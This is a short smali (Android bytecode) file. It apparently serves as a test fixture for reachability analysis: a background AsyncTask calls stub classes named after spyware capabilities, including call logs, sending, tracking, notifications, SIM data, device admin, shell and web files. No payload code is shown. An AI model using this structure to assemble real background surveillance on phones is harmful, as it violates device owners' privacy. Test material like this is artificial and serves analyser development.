.class final Lorg/example/reach/Later;
.super Landroid/os/AsyncTask;
.source "Later.java"

.method constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/os/AsyncTask;-><init>()V
    return-void
.end method

.method public doInBackground([Ljava/lang/Object;)Ljava/lang/Object;
    .registers 4
    const/4 v0, 0x0
    invoke-static {v0}, Lorg/example/reach/CallLog;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Send;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Trail;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Notices;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Sim;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Admin;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Shell;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/WebFiles;->use(Landroid/content/Context;)V
    return-object v0
.end method
